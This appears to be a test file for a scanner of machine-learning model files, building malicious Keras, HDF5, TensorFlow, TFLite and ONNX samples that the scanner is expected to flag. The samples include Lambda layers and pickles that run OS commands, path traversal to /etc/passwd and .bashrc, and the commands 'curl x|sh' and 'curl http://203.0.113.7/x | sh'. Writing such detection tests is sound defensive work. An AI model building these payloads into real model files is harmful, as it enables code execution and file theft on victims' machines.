import { describe } from "vitest";
import { concat, zeros } from "../builders/bytes.js";
import {
  dataset,
  externalFiles,
  externalLink,
  fixedText,
  floats,
  group,
  hdf5,
  softLink,
  text,
} from "../builders/hdf5.js";
import { functionOf, lambda, layer, RUNS_OS, sequential } from "../builders/keras.js";
import {
  graphAttribute,
  onnxFunction,
  onnxGraph,
  onnxModel,
  onnxNode,
  tensor,
  tensorAttribute,
  textAttribute,
} from "../builders/onnx.js";
import * as p from "../builders/pickle.js";
import { field, integer, tag, varint } from "../builders/protobuf.js";
import { constant, fn, graph, metaGraph, node, savedModel } from "../builders/tensorflow.js";
import { flexOptions, stringTensor, tflite } from "../builders/tflite.js";
import { zip } from "../builders/zip.js";
import { failing } from "./attack.js";

const LAMBDA = layer("Lambda", { name: "l", function: lambda(RUNS_OS) });

function keras(model: object, more: readonly { name: string; data: string | Uint8Array }[] = []): Uint8Array {
  return zip({
    entries: [
      { name: "metadata.json", data: JSON.stringify({ keras_version: "3.11.0" }) },
      { name: "config.json", data: JSON.stringify(model) },
      { name: "model.weights.h5", data: hdf5() },
      ...more,
    ],
  });
}

const ref = (module: string, name: string, more: object = {}) => ({
  module,
  class_name: name,
  config: {},
  registered_name: null,
  ...more,
});

describe("an attack by a Keras model", () => {
  const models: Readonly<Record<string, object>> = {
    "a Lambda inside TimeDistributed": sequential([layer("TimeDistributed", { layer: LAMBDA })]),
    "a Lambda inside Bidirectional's backward layer": sequential([
      layer("Bidirectional", { layer: layer("LSTM", { units: 1 }), backward_layer: LAMBDA }),
    ]),
    "a Lambda inside a nested Functional": sequential([
      {
        module: "keras.src.models.functional",
        class_name: "Functional",
        config: { layers: [LAMBDA] },
        registered_name: "Functional",
      },
    ]),
    "a Lambda inside a preprocessing Pipeline": sequential([layer("Pipeline", { layers: [LAMBDA] })]),
    "a Lambda inside an RNN cell": sequential([layer("RNN", { cell: LAMBDA })]),
    "the shape of a Lambda's output is code": sequential([
      layer("Lambda", { name: "l", function: functionOf("keras.activations", "relu"), output_shape: lambda(RUNS_OS) }),
    ]),
    "the mask of a Lambda is code": sequential([
      layer("Lambda", { name: "l", function: functionOf("keras.activations", "relu"), mask: lambda(RUNS_OS) }),
    ]),
    "the function of a Lambda is a Python function": sequential([
      layer("Lambda", { name: "l", function: functionOf("os", "system") }),
    ]),
    "the function of a Lambda downloads": sequential([
      layer("Lambda", {
        name: "l",
        function: functionOf("keras.utils", "get_file"),
        arguments: { origin: "http://203.0.113.7/x.tar", extract: true, cache_dir: "/tmp" },
      }),
    ]),
    "a layer of the private namespace downloads": sequential([
      ref("keras.src.utils.file_utils", "get_file", { config: { fname: "x", origin: "http://203.0.113.7/x" } }),
    ]),
    "safe mode is switched off by a layer": sequential([ref("keras.config", "enable_unsafe_deserialization"), LAMBDA]),
    "safe mode is switched off under its old name": sequential([
      ref("keras.src.saving.serialization_lib", "enable_unsafe_deserialization"),
    ]),
    "a global attribute is set": sequential([
      ref("keras.src.backend.common.global_state", "set_global_attribute", {
        config: { name: "safe_mode_saving", value: false },
      }),
    ]),
    "another model is loaded": sequential([
      ref("keras.models", "load_model", { config: { filepath: "x.keras", safe_mode: false } }),
    ]),
    "TFSMLayer loads a SavedModel": sequential([layer("TFSMLayer", { filepath: "/tmp/evil", call_endpoint: "serve" })]),
    "TorchModuleWrapper holds a pickle": sequential([
      layer("TorchModuleWrapper", { module: Buffer.from(p.osSystem()).toString("base64") }),
    ]),
    "StringLookup reads a file": sequential([layer("StringLookup", { vocabulary: "/etc/passwd" })]),
    "TextVectorization reads an address": sequential([
      layer("TextVectorization", { vocabulary: "http://203.0.113.7/v" }),
    ]),
    "idf_weights is a path": sequential([
      layer("TextVectorization", { idf_weights: "/etc/passwd", output_mode: "tf_idf" }),
    ]),
    "an initializer is a module's function": sequential([
      layer("Dense", {
        units: 1,
        kernel_initializer: { module: "os", class_name: "system", config: { command: "id" }, registered_name: null },
      }),
    ]),
    "an activation is a module's function": sequential([
      layer("Dense", {
        units: 1,
        activation: { module: "builtins", class_name: "function", config: "exec", registered_name: "function" },
      }),
    ]),
    "a regularizer is a registered class of a module": sequential([
      layer("Dense", {
        units: 1,
        kernel_regularizer: {
          module: "subprocess",
          class_name: "Popen",
          config: { args: ["id"] },
          registered_name: "builtins>Popen",
        },
      }),
    ]),
    "an inbound node carries arguments": sequential([
      {
        ...ref("subprocess", "run"),
        config: { name: "x" },
        inbound_nodes: [{ args: [["id"]], kwargs: { shell: true } }],
      },
    ]),
    "the loss of compile_config is a function": sequential([layer("Dense", { units: 1 })], {
      compile_config: { optimizer: "adam", loss: functionOf("os", "system"), metrics: [] },
    }),
    "the optimizer of compile_config is a class": sequential([layer("Dense", { units: 1 })], {
      compile_config: { optimizer: ref("subprocess", "Popen"), loss: "mse" },
    }),
    "build_config holds an object": sequential([
      { ...layer("Dense", { units: 1 }), build_config: { input_shape: ref("os", "system") } },
    ]),
    "a type specification is imported": sequential([
      layer("InputLayer", {
        batch_shape: [null, 2],
        spec: { class_name: "__typespec__", spec_name: "os", module: "os", registered_name: "system", config: [] },
      }),
    ]),
    "an array is a list of code": sequential([
      layer("Dense", {
        units: {
          class_name: "__numpy__",
          config: { value: [{ class_name: "__lambda__", config: { code: RUNS_OS } }], dtype: "object" },
        },
      }),
    ]),
    "a Lambda stands in metadata of its own": sequential([], { extra: { deep: [[{ x: LAMBDA }]] } }),
    "the Lambda is an old one": sequential([
      {
        class_name: "Lambda",
        config: { name: "l", function: [RUNS_OS, null, null], function_type: "lambda", module: "x" },
      },
    ]),
    "the class name has blanks around it": sequential([{ ...LAMBDA, class_name: " Lambda " }]),
    "the class is taken from keras's private modules": sequential([
      {
        module: "keras.src.layers.core.lambda_layer",
        class_name: "Lambda",
        config: { function: lambda(RUNS_OS) },
        registered_name: "Lambda",
      },
    ]),
    "a dotted class name walks": sequential([ref("keras", "src.utils.os.system")]),
    "a callback runs": sequential([
      ref("keras.callbacks", "LambdaCallback", { config: { on_epoch_end: lambda(RUNS_OS) } }),
    ]),
    "an ops function saves a file": sequential([
      ref("keras.saving", "save_model", { config: { model: {}, filepath: "/root/.bashrc" } }),
    ]),
    "an image loader reads a file": sequential([ref("keras.utils", "load_img", { config: { path: "/etc/passwd" } })]),
    "a TensorFlow op layer reads a file": sequential([
      layer("TFOpLambda", { name: "x", function: "io.read_file" }, { inbound_nodes: [["/etc/passwd", {}]] }),
    ]),
    "a custom class needs code": sequential([ref("evil_package.layers", "Evil", { registered_name: "evil>Evil" })]),
  };
  failing(Object.entries(models).map(([hope, model]) => ({ hope, name: "m.keras", bytes: () => keras(model) })));
  failing([
    {
      hope: "the same model is a JSON file alone",
      name: "model.json",
      bytes: () => JSON.stringify(sequential([LAMBDA])),
      least: "high",
    },
    {
      hope: "the model is called config.json in an upper-case archive",
      name: "M.KERAS",
      bytes: () => zip({ entries: [{ name: "CONFIG.JSON", data: JSON.stringify(sequential([LAMBDA])) }] }),
    },
    {
      hope: "a pickle is an asset",
      name: "m.keras",
      bytes: () => keras(sequential([]), [{ name: "assets/vocab.txt", data: p.osSystem() }]),
    },
    {
      hope: "assets escape by their names",
      name: "m.keras",
      bytes: () => keras(sequential([]), [{ name: "assets/../../../.bashrc", data: "x" }]),
    },
    {
      hope: "the weights link to another file",
      name: "m.weights.h5",
      bytes: () => hdf5(group({ layers: group({ dense: externalLink("/etc/passwd", "/x") }) })),
    },
    {
      hope: "the weights lie in another file",
      name: "m.weights.h5",
      bytes: () =>
        hdf5(group({ w: dataset(floats(25), { messages: (file) => [externalFiles(file, "/etc/passwd")] }) })),
    },
    {
      hope: "an HDF5 model has another ending",
      name: "weights.dat",
      bytes: () => hdf5(group({}, { model_config: text(JSON.stringify(sequential([LAMBDA]))) })),
      least: "high",
    },
    {
      hope: "an HDF5 model is behind a user block that is a picture",
      name: "m.h5",
      bytes: () => {
        const file = hdf5(group({}, { model_config: text(JSON.stringify(sequential([LAMBDA]))) }), { userBlock: 512 });
        file.set(concat([0x89], "PNG\r\n\x1a\n"));
        return file;
      },
      least: "high",
    },
    {
      hope: "the configuration is in UTF-16 in HDF5",
      name: "m.h5",
      bytes: () =>
        hdf5(group({}, { model_config: fixedText(Buffer.from(JSON.stringify(sequential([LAMBDA])), "utf16le")) })),
    },
    {
      hope: "the weights of a name reach a pickle over a soft link",
      name: "m.h5",
      bytes: () => hdf5(group({ a: softLink("/b"), b: dataset(fixedText(p.osSystem())) })),
    },
    {
      hope: "metadata of Keras 3 asks for a module",
      name: "m.keras",
      bytes: () =>
        zip({
          entries: [
            {
              name: "metadata.json",
              data: JSON.stringify({ keras_version: "3.0.0", module: "os", class_name: "system", config: "id" }),
            },
            { name: "config.json", data: JSON.stringify(sequential([])) },
          ],
        }),
    },
    {
      hope: "a TensorFlow.js topology holds a Lambda",
      name: "model.json",
      bytes: () =>
        JSON.stringify({
          format: "layers-model",
          modelTopology: { keras_version: "2.4.0", model_config: sequential([LAMBDA]) },
          weightsManifest: [{ paths: ["group1-shard1of1.bin"], weights: [] }],
        }),
      least: "high",
    },
    {
      hope: "TensorFlow.js weights come from elsewhere",
      name: "model.json",
      bytes: () =>
        JSON.stringify({
          format: "graph-model",
          modelTopology: { node: [] },
          weightsManifest: [{ paths: ["../../../etc/passwd"], weights: [] }],
        }),
    },
    {
      hope: "a TensorFlow.js graph reads a file",
      name: "model.json",
      bytes: () =>
        JSON.stringify({
          format: "graph-model",
          modelTopology: {
            node: [
              {
                name: "c",
                op: "Const",
                attr: {
                  value: { tensor: { dtype: "DT_STRING", stringVal: [Buffer.from("/etc/passwd").toString("base64")] } },
                },
              },
              { name: "r", op: "ReadFile", input: ["c"] },
            ],
          },
          weightsManifest: [],
        }),
    },
  ]);
});

describe("an attack by a TensorFlow graph", () => {
  const path = constant("path", "/root/.bashrc");
  const content = constant("content", "curl x|sh");
  const write = node("WriteFile", { inputs: ["path", "content"] });
  const inFunction = fn("f", {
    nodes: [path, content, node("WriteFile", { inputs: ["path:output:0", "content:output:0"] })],
  });
  failing([
    {
      hope: "a graph is called weights.bin",
      name: "weights.bin",
      bytes: () => graph({ nodes: [path, content, write] }),
      least: "high",
    },
    {
      hope: "a graph has no ending",
      name: "frozen",
      bytes: () => graph({ nodes: [path, content, write] }),
      least: "high",
    },
    {
      hope: "only a function writes",
      name: "saved_model.pb",
      bytes: () => savedModel({ functions: [inFunction] }),
      least: "high",
    },
    {
      hope: "the second MetaGraph writes",
      name: "saved_model.pb",
      bytes: () => savedModel({}, { tags: "other", nodes: [path, content, write] }),
      least: "high",
    },
    {
      hope: "unknown fields stand before the graph",
      name: "saved_model.pb",
      bytes: () => concat(field(99, "x".repeat(5000)), savedModel({ nodes: [path, content, write] })),
      least: "high",
    },
    {
      hope: "a field is a group",
      name: "saved_model.pb",
      bytes: () => concat(tag(99, 3), integer(1, 1), tag(99, 4), savedModel({ nodes: [path, content, write] })),
      least: "high",
    },
    {
      hope: "the length of a field is an overlong number",
      name: "saved_model.pb",
      bytes: () => {
        const inner = metaGraph({ nodes: [path, content, write] });
        const size = varint(inner.length);
        const long = concat([...size.slice(0, -1)], [(size.at(-1) ?? 0) | 0x80, 0x80, 0x80, 0x00]);
        return concat(integer(1, 1), tag(2, 2), long, inner);
      },
      least: "high",
    },
    {
      hope: "the name of the op comes in two halves, of which the last counts",
      name: "saved_model.pb",
      bytes: () =>
        savedModel({
          nodes: [
            path,
            content,
            concat(node("NoOp", { name: "w", inputs: ["path", "content"] }), field(2, "WriteFile")),
          ],
        }),
      least: "high",
    },
    {
      hope: "the path is decoded from base64 in the graph",
      name: "saved_model.pb",
      bytes: () =>
        savedModel({
          nodes: [
            constant("b", Buffer.from("/root/.bashrc").toString("base64url")),
            node("DecodeBase64", { name: "d", inputs: ["b"] }),
            content,
            node("WriteFile", { inputs: ["d", "content"] }),
          ],
        }),
      least: "high",
    },
    {
      hope: "Python is called by a custom gradient",
      name: "saved_model.pb",
      bytes: () =>
        savedModel({
          functions: [fn("g", { nodes: [node("EagerPyFunc", { attributes: { token: field(2, "pyfunc_0") } })] })],
        }),
      least: "high",
    },
    {
      hope: "an op of a library of its own",
      name: "saved_model.pb",
      bytes: () => savedModel({ nodes: [node("EvilSystemOp")] }),
    },
    {
      hope: "an asset leaves its folder",
      name: "saved_model.pb",
      bytes: () => savedModel({ assets: { "../../../../root/.bashrc": "path:0" } }),
    },
    {
      hope: "a summary is written to an address",
      name: "saved_model.pb",
      bytes: () =>
        savedModel({ nodes: [constant("d", "/root/.ssh"), node("CreateSummaryFileWriter", { inputs: ["w", "d"] })] }),
    },
    {
      hope: "text printing goes to a file",
      name: "saved_model.pb",
      bytes: () =>
        savedModel({
          nodes: [
            content,
            node("PrintV2", { inputs: ["content"], attributes: { output_stream: field(2, "file:///root/.bashrc") } }),
          ],
        }),
    },
    {
      hope: "a text graph is called model.txt",
      name: "model.txt",
      bytes: () =>
        'node { name: "p" op: "Const" attr { key: "value" value { tensor { dtype: DT_STRING string_val: "/root/.bashrc" } } } }\nnode { name: "w" op: "WriteFile" input: "p" input: "p" }\n',
    },
    {
      hope: "a checkpoint state points elsewhere",
      name: "checkpoint",
      bytes: () => 'model_checkpoint_path: "/etc/passwd"\nall_model_checkpoint_paths: "../../x"\n',
    },
    {
      hope: "a Lambda hides in the metadata of Keras",
      name: "keras_metadata.pb",
      bytes: () =>
        field(
          1,
          integer(2, 0),
          field(3, "root"),
          field(4, "_tf_keras_model"),
          field(5, JSON.stringify(sequential([LAMBDA]))),
        ),
      least: "high",
    },
    {
      hope: "TFLite runs a TensorFlow op by the Flex delegate",
      name: "m.tflite",
      bytes: () => tflite({ custom: [{ name: "FlexWriteFile", options: flexOptions("WriteFile") }] }),
    },
    {
      hope: "TFLite names one Flex op and carries another",
      name: "m.tflite",
      bytes: () => tflite({ custom: [{ name: "FlexAdd", options: flexOptions("Add", "WriteFile") }] }),
    },
    {
      hope: "TFLite carries an archive with a pickle as metadata",
      name: "m.tflite",
      bytes: () =>
        tflite({
          buffers: [zip({ entries: [{ name: "labels.txt", data: p.osSystem() }] })],
          metadata: [{ name: "TFLITE_METADATA", buffer: 1 }],
        }),
    },
    {
      hope: "TFLite has an archive appended, as associated files are",
      name: "m.tflite",
      bytes: () => concat(tflite({}), zip({ entries: [{ name: "labels.txt", data: p.osSystem() }] })),
    },
    {
      hope: "TFLite has a pickle in a buffer",
      name: "m.tflite",
      bytes: () =>
        tflite({
          tensors: [{ name: "w", shape: [40], type: 3, buffer: 1 }],
          buffers: [concat(p.osSystem(), zeros(8))],
        }),
    },
    {
      hope: "TFLite's buffer lies outside",
      name: "m.tflite",
      bytes: () => tflite({ buffers: [{ offset: 1n << 40n, size: 100 }] }),
    },
    {
      hope: "TFLite reads a file through a Flex op with a constant path",
      name: "m.tflite",
      bytes: () =>
        tflite({
          custom: [{ name: "FlexReadFile", inputs: [0], options: flexOptions("ReadFile") }],
          tensors: [{ name: "p", shape: [], type: 5, buffer: 1 }],
          buffers: [stringTensor("/etc/passwd")],
        }),
      least: "high",
    },
    {
      hope: "TFLite has a custom operator of nobody",
      name: "m.tflite",
      bytes: () => tflite({ custom: [{ name: "EvilOp" }] }),
      least: "low",
    },
  ]);
});

describe("an attack by an ONNX graph", () => {
  const outside = tensor({ external: { location: "../../etc/passwd" } });
  const inAttribute = onnxNode("Constant", { attributes: { value: tensorAttribute(outside) } });
  failing(
    [
      {
        hope: "the location has backslashes",
        bytes: () => onnxModel({ tensors: [tensor({ external: { location: "..\\..\\etc\\passwd" } })] }),
      },
      {
        hope: "the location is an absolute path",
        bytes: () => onnxModel({ tensors: [tensor({ external: { location: "/etc/passwd" } })] }),
      },
      {
        hope: "the location is an address",
        bytes: () => onnxModel({ tensors: [tensor({ external: { location: "file:///etc/passwd" } })] }),
      },
      {
        hope: "the location goes in before it goes out",
        bytes: () => onnxModel({ tensors: [tensor({ external: { location: "a/../../b" } })] }),
      },
      {
        hope: "the location has a NUL",
        bytes: () => onnxModel({ tensors: [tensor({ external: { location: "w.bin\0/../../x" } })] }),
      },
      {
        hope: "the location is given twice and the last counts",
        bytes: () =>
          onnxModel({
            tensors: [
              tensor({
                external: { location: "w.bin" },
                more: [field(13, field(1, "location"), field(2, "/etc/passwd"))],
              }),
            ],
          }),
      },
      {
        hope: "the value of one entry is given twice",
        bytes: () =>
          onnxModel({
            tensors: [
              tensor({
                external: {},
                more: [field(13, field(1, "location"), field(2, "w.bin"), field(2, "/etc/passwd"))],
              }),
            ],
          }),
      },
      { hope: "an attribute's tensor lies outside", bytes: () => onnxModel({ nodes: [inAttribute] }) },
      {
        hope: "the branch of an If holds it",
        bytes: () =>
          onnxModel({
            nodes: [onnxNode("If", { attributes: { then_branch: graphAttribute(onnxGraph({ tensors: [outside] })) } })],
          }),
      },
      {
        hope: "a function's body holds it",
        bytes: () => onnxModel({ functions: [onnxFunction("F", "local", inAttribute)] }),
      },
      {
        hope: "the training info holds it",
        bytes: () => onnxModel({ modelFields: [field(20, field(1, onnxGraph({ tensors: [outside] })))] }),
      },
      {
        hope: "the algorithm of the training info holds it",
        bytes: () => onnxModel({ modelFields: [field(20, field(2, onnxGraph({ tensors: [outside] })))] }),
      },
      { hope: "a sparse initializer holds it", bytes: () => onnxModel({ more: [field(15, field(1, outside))] }) },
      {
        hope: "the indices of a sparse initializer hold it",
        bytes: () => onnxModel({ more: [field(15, field(2, outside))] }),
      },
      {
        hope: "a sparse attribute holds it",
        bytes: () =>
          onnxModel({ nodes: [onnxNode("Constant", { attributes: { sparse_value: field(22, field(1, outside)) } })] }),
      },
      {
        hope: "a list of tensors in an attribute holds it",
        bytes: () => onnxModel({ nodes: [onnxNode("X", { attributes: { ts: field(10, outside) } })] }),
      },
      {
        hope: "a list of graphs in an attribute holds it",
        bytes: () =>
          onnxModel({ nodes: [onnxNode("X", { attributes: { gs: field(11, onnxGraph({ tensors: [outside] })) } })] }),
      },
      {
        hope: "the graph comes twice and is merged",
        bytes: () => concat(onnxModel(), field(7, onnxGraph({ tensors: [outside] }))),
      },
      {
        hope: "the attribute's tensor comes twice and is merged",
        bytes: () =>
          onnxModel({
            nodes: [
              onnxNode("Constant", {
                attributes: { value: concat(tensorAttribute(tensor({ name: "a" })), tensorAttribute(outside)) },
              }),
            ],
          }),
      },
      {
        hope: "an operator is of nobody's domain",
        bytes: () => onnxModel({ nodes: [onnxNode("Evil", { domain: "evil.example" })] }),
      },
      {
        hope: "an operator runs Python",
        bytes: () => onnxModel({ nodes: [onnxNode("PyOp", { domain: "com.microsoft" })] }),
      },
      {
        hope: "a function of the standard domain replaces an operator",
        bytes: () => onnxModel({ functions: [onnxFunction("Relu", "", onnxNode("Evil", { domain: "evil.example" }))] }),
      },
      {
        hope: "the context of an execution provider is a path",
        bytes: () =>
          onnxModel({
            nodes: [
              onnxNode("EPContext", {
                domain: "com.microsoft",
                attributes: { ep_cache_context: textAttribute("/tmp/evil.bin"), embed_mode: integer(3, 0) },
              }),
            ],
          }),
      },
      {
        hope: "a command stands in the metadata",
        bytes: () => onnxModel({ properties: { note: "curl http://203.0.113.7/x | sh" } }),
      },
      {
        hope: "a pickle in base64 stands in the metadata",
        bytes: () => onnxModel({ properties: { state: Buffer.from(p.osSystem()).toString("base64") } }),
      },
      {
        hope: "a pickle is a tensor",
        bytes: () => onnxModel({ tensors: [tensor({ raw: concat(p.osSystem(), zeros(8)) })] }),
      },
      { hope: "a pickle follows the model", bytes: () => concat(onnxModel(), p.osSystem()) },
      { hope: "a pickle is an unknown field", bytes: () => concat(onnxModel(), field(500, p.osSystem())) },
      { hope: "the model is called weights.bin", name: "weights.bin", bytes: () => onnxModel({ tensors: [outside] }) },
      {
        hope: "the model is text",
        name: "m.onnx.txt",
        bytes: () =>
          'ir_version: 8\ngraph { initializer { name: "w" data_location: EXTERNAL external_data { key: "location" value: "../../etc/passwd" } } }\n',
      },
      {
        hope: "the model lies in an archive",
        name: "m.zip",
        bytes: () => zip({ entries: [{ name: "m.onnx", data: onnxModel({ tensors: [outside] }) }] }),
      },
      {
        hope: "the offset of the data is negative",
        bytes: () => onnxModel({ tensors: [tensor({ external: { location: "w.bin", offset: "-1" } })] }),
      },
      {
        hope: "a key of the external data is a Python attribute",
        bytes: () => onnxModel({ tensors: [tensor({ external: { location: "w.bin", __class__: "x" } })] }),
      },
      {
        hope: "a tensor is absurdly large",
        bytes: () => onnxModel({ tensors: [tensor({ dims: [1n << 40n, 1n << 40n], raw: zeros(8) })] }),
      },
      {
        hope: "group fields hide the rest from a reader that stops",
        bytes: () => concat(tag(90, 3), integer(1, 1), tag(90, 4), onnxModel({ tensors: [outside] })),
      },
    ],
    "m.onnx",
  );
});
